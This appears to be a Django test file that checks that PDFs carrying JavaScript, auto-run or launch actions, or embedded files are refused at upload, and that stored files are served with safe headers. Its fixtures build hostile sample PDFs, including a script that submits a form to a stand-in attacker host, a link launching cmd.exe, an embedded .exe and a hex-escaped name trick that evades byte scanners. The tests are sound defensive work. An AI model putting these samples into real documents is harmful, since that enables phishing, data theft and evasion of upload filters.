"""Issue 18, L9: PDFs that carry JavaScript, actions that run by themselves or embedded files
are refused at upload; stored uploads are served as attachments named after their real type,
with nosniff and a sandboxing CSP."""

import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from tests.conftest import verified_client
from tests.factories.images import photo
from tests.participation.test_services import register
from thidua.core.uploads import UploadKind, check_upload
from thidua.participation.models import Activity, Evidence

PDF = {UploadKind.PDF}


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _blank() -> PdfWriter:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    return writer


def pdf_with_document_javascript() -> bytes:
    """Document-level JavaScript in the catalog's /Names tree: runs when the file opens."""
    writer = _blank()
    script = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('Tài khoản của bạn đã bị khóa');"),
        }
    )
    names = ArrayObject([TextStringObject("mo-tep"), writer._add_object(script)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): names})}
    )
    return _written(writer)


def pdf_with_open_action_script() -> bytes:
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("this.submitForm('https://ke-gian.example')"),
        }
    )
    return _written(writer)


def pdf_with_page_action() -> bytes:
    writer = _blank()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): DictionaryObject({NameObject("/S"): NameObject("/Launch")})}
    )
    return _written(writer)


def pdf_with_launch_link() -> bytes:
    writer = _blank()
    link = Link(rect=(50, 50, 200, 80), url="https://example.vn")
    link[NameObject("/A")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    writer.add_annotation(page_number=0, annotation=link)
    return _written(writer)


def pdf_with_attachment() -> bytes:
    writer = _blank()
    writer.add_attachment("hoa-don.exe", b"MZ\x90\x00")
    return _written(writer)


def pdf_with_hex_escaped_names() -> bytes:
    """A hand-written PDF whose names are hex-escaped (/J#61vaScript): byte scanners miss it."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


@pytest.mark.parametrize(
    ("build", "found"),
    [
        (pdf_with_document_javascript, "/JavaScript"),
        (pdf_with_open_action_script, "/JavaScript"),
        (pdf_with_page_action, "/AA"),
        (pdf_with_launch_link, "/Launch"),
        (pdf_with_attachment, "/EmbeddedFiles"),
        (pdf_with_hex_escaped_names, "/JavaScript"),
    ],
)
def test_a_pdf_with_active_content_is_refused(build, found):
    data = build()
    assert PdfReader(io.BytesIO(data)).pages  # a real, readable PDF
    with pytest.raises(ValidationError) as excinfo:
        check_upload(io.BytesIO(data), allowed=PDF, name="Quyết định khen thưởng.pdf")
    assert excinfo.value.code == "active_pdf"
    message = excinfo.value.messages[0]
    assert message.startswith("Tệp “Quyết định khen thưởng.pdf” chứa mã JavaScript")
    assert found in message or "/OpenAction" in message


def test_a_pdf_that_opens_at_a_page_is_accepted():
    """/OpenAction as a destination (open at page 1, fit) is common and runs nothing."""
    writer = _blank()
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    writer.add_annotation(
        page_number=0, annotation=Link(rect=(50, 50, 200, 80), url="https://thidua.gov.vn")
    )
    writer.pages[0][NameObject("/Rotate")] = NumberObject(0)
    data = _written(writer)
    checked = check_upload(io.BytesIO(data), allowed=PDF, name="ke-hoach.pdf")
    assert checked.content == data


@pytest.mark.django_db
def test_uploading_a_scripted_pdf_as_evidence_keeps_the_form_and_stores_nothing(
    campaign, officer, head, city
):
    register(campaign, officer, head, city.suoi_hoa)
    client = verified_client(officer)
    form = campaign.forms.get(code="PHOTO_EXHIBITION")
    response = client.post(
        reverse("participation:activity-create", args=[campaign.pk]),
        {
            "form": form.pk,
            "title": "Triển lãm ảnh",
            "held_on": "01/07/2022",
            "participants": 120,
            "attachments": [
                SimpleUploadedFile("bien-ban.pdf", pdf_with_document_javascript()),
            ],
        },
    )
    page = response.content.decode()
    assert response.status_code == 200
    assert "Tệp “bien-ban.pdf” chứa mã JavaScript" in page
    assert not Activity.objects.exists()
    assert not Evidence.objects.exists()


@pytest.mark.django_db
def test_uploads_are_served_as_attachments_of_their_real_type(campaign, officer, head, city):
    register(campaign, officer, head, city.suoi_hoa)
    client = verified_client(officer)
    talks = campaign.registrations.get().commitments.get(position=0)
    client.post(
        reverse("participation:activity-create", args=[campaign.pk]),
        {
            "form": campaign.forms.get(code="PHOTO_EXHIBITION").pk,
            "title": "Triển lãm ảnh",
            "held_on": "01/07/2022",
            "participants": 120,
            f"contribution_{talks.pk}": "1",
            "attachments": [
                SimpleUploadedFile("trang-chu.html", _written(_blank()), content_type="text/html"),
                photo("anh.jpg"),
            ],
        },
    )
    pdf, image = Activity.objects.get().evidence.order_by("pk")
    response = client.get(reverse("participation:evidence-file", args=[pdf.pk]))
    body = b"".join(response.streaming_content)
    assert body.startswith(b"%PDF-")
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="trang-chu.html.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox;")
    response = client.get(reverse("participation:evidence-file", args=[image.pk]))
    b"".join(response.streaming_content)
    assert response["Content-Type"] == "image/jpeg"
    assert response["Content-Disposition"] == 'inline; filename="anh.jpg"'
    assert response["Content-Security-Policy"].startswith("sandbox;")
